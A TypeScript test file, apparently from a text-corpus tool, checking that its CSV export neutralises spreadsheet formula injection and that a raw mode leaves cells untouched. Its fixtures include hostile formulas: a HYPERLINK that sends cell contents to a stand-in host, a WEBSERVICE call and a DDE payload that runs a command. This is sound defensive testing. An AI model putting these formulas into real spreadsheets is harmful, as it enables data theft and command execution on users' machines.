/** CSV formula injection: corpus text that a spreadsheet would run as a formula is exported as text; csv-raw keeps every cell as it is. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { validateRequest } from '../../../app/common/schemas';
import { runCli } from '../../helpers/runCli';
import { corpusOf } from '../../helpers/temp';

const TITLE = '=HYPERLINK("http://example.invalid/?"&A2,"Open")';
const QUOTE = '@SUM(1+1) opens this paragraph';
const NOTE = "-2+3+cmd|' /C calc'!A0";

const DOC = [
  '---',
  `title: '${TITLE}'`,
  'speakers:',
  "  - '+Mallory Hostile'",
  // A full-width equals sign: some spreadsheets normalise it to = and run the formula.
  'outlet: \'\uFF1DWEBSERVICE("http://example.invalid")\'',
  'date: 2020-01-02',
  '---',
  '',
  `${QUOTE}, and the rest of it is plain text about cyber deterrence.`,
  '',
].join('\n');

async function exported(format: string): Promise<Record<string, string>[]> {
  const corpus = corpusOf({ 'hostile.md': DOC });
  try {
    const add = await runCli('tags', 'add', 'hostile', '--quote', QUOTE, '--tag', '=Tag', '--note', NOTE, '--corpus', corpus.dir);
    assert.equal(add.code, 0, add.err);
    const out = path.join(corpus.dir, 'out.csv');
    const r = await runCli('tags', 'export', '--format', format, '--out', out, '--corpus', corpus.dir);
    assert.equal(r.code, 0, r.err);
    return parseCsv(fs.readFileSync(out, 'utf8'), { columns: true, relax_quotes: false });
  } finally {
    corpus.cleanup();
  }
}

test("CSV: a title, speaker, outlet, quote, note or tag beginning with =, +, -, @ (or a full-width one) is prefixed with ' (OWASP); numbers are not", async () => {
  const [row] = await exported('csv');
  assert.equal(row.title, `'${TITLE}`);
  assert.equal(row.speakers, "'+Mallory Hostile");
  assert.equal(row.outlet, '\'\uFF1DWEBSERVICE("http://example.invalid")');
  assert.equal(row.quote, `'${QUOTE}`);
  assert.equal(row.note, `'${NOTE}`);
  assert.equal(row.tag, "'=Tag");
  assert.equal(row.tag_path, "'=Tag");
  // Lectern's own columns are as they were: plain text and numbers.
  assert.equal(row.document_id, 'hostile');
  assert.equal(row.date, '2020-01-02');
  assert.equal(row.start, '0');
  assert.equal(row.end, String(QUOTE.length));
  assert.equal(row.orphan, 'false');
});

test('csv-raw (for R and pandas) writes every cell exactly as it is', async () => {
  const [row] = await exported('csv-raw');
  assert.deepEqual(
    [row.title, row.speakers, row.outlet, row.quote, row.note, row.tag],
    [TITLE, '+Mallory Hostile', '\uFF1DWEBSERVICE("http://example.invalid")', QUOTE, NOTE, '=Tag'],
  );
  // The API takes the format too (the Tags view's "CSV, raw" button sends it).
  assert.deepEqual(validateRequest('exportTags', { format: 'csv-raw' }), { format: 'csv-raw' });
});
